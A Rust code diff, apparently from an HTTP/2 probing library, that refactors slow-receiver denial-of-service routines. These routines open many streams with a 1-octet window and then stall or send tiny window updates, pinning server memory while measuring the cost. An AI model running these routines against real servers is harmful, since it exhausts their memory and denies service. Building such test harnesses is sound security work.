@@ -7,7 +7,7 @@
 //! where they sit pinned for as long as the attacker keeps the connection
 //! alive — memory the attacker rents for the price of a few frames.
 
-use h2scope::{ProbeConn, Target};
+use h2scope::{ProbeConn, Target, TimedFrame};
 use h2wire::{Frame, SettingId, Settings, StreamId, WindowUpdateFrame};
 
 /// Result of one slow-receiver engagement.
@@ -23,6 +23,15 @@ pub struct SlowReceiverReport {
     pub leaked_octets: u64,
 }
 
+/// DATA payload octets among `frames`: what the server managed to emit.
+pub(crate) fn data_octets(frames: &[TimedFrame]) -> u64 {
+    let data = frames.iter().filter_map(|tf| match &tf.frame {
+        Frame::Data(d) => Some(d.data.len() as u64),
+        _ => None,
+    });
+    data.sum()
+}
+
 /// Runs the attack: open `streams` requests for large objects with a
 /// 1-octet initial window, then go silent.
 pub fn attack(target: &Target, streams: u32) -> SlowReceiverReport {
@@ -35,14 +44,7 @@ pub fn attack(target: &Target, streams: u32) -> SlowReceiverReport {
         attacker_octets =
             attacker_octets.saturating_add(9 + conn.get(1 + 2 * k, &path, None) as u64);
     }
-    let frames = conn.exchange();
-    let leaked_octets: u64 = frames
-        .iter()
-        .filter_map(|tf| match &tf.frame {
-            Frame::Data(d) => Some(d.data.len() as u64),
-            _ => None,
-        })
-        .sum();
+    let leaked_octets = data_octets(&conn.exchange());
     // The attacker now simply stops. Whatever the server queued is pinned.
     let pinned_octets = conn.server().pending_response_octets();
     SlowReceiverReport {
@@ -95,14 +97,7 @@ pub fn connection_window_freeze(target: &Target, streams: u32) -> SlowReceiverRe
         attacker_octets =
             attacker_octets.saturating_add(9 + conn.get(1 + 2 * k, &path, None) as u64);
     }
-    let frames = conn.exchange();
-    let leaked_octets: u64 = frames
-        .iter()
-        .filter_map(|tf| match &tf.frame {
-            Frame::Data(d) => Some(d.data.len() as u64),
-            _ => None,
-        })
-        .sum();
+    let leaked_octets = data_octets(&conn.exchange());
     // Tease the server with a useless 1-octet connection window update to
     // keep the connection warm (and prove we are "alive").
     conn.send(Frame::WindowUpdate(WindowUpdateFrame {
